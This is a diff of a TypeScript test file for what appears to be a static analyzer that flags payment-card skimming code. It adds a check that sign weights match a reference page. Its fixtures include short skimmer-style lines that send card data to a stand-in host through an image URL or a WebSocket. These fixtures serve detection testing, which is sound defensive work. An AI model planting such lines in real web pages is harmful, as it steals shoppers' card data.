@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
+import { signMeanings, weightOf, type Sign } from '../../../../analyzer/static/evidence/signs.ts';
 import { evidenceRules } from '../../../../analyzer/static/evidence/index.ts';
 import { evidence as evidenceSchema, severities } from '../../../../core/schema/index.ts';
 import { analyse } from '../flow/analyse.ts';
@@ -22,7 +23,7 @@ const cases: Record<string, [string, string[]]> = {
   ],
   'card data in the address of an image': [
     `new Image().src='https://x.example/p.gif?d='+${card}`,
-    ['critical card-data-in-image-url', 'critical card-field-to-host'],
+    ['critical card-data-in-image-url', 'high card-field-to-host'],
   ],
   'card data over a socket': [
     `var s=new WebSocket('wss://x.example/');s.send(${card})`,
@@ -114,6 +115,16 @@ describe('evidence', () => {
         const rank = severities.indexOf(one.severity);
         assert.ok(rank >= least! && rank <= most!, `${one.rule} gave ${one.severity}`);
       }
+  });
+
+  it('weighs signs as its reference says', () => {
+    const page = readFileSync(new URL('../../../../docs/reference/evidence.md', import.meta.url), 'utf8');
+    const rows = [...page.matchAll(/^\| ([a-z-]+) \| (\d) \| (.+) \|$/gm)].map(([, ...row]) => row);
+    const signs = Object.entries(signMeanings) as [Sign, string][];
+    assert.deepEqual(
+      rows,
+      signs.map(([sign, meaning]) => [sign, String(weightOf([sign])), meaning]),
+    );
   });
 
   it('has the rules that its reference lists', () => {
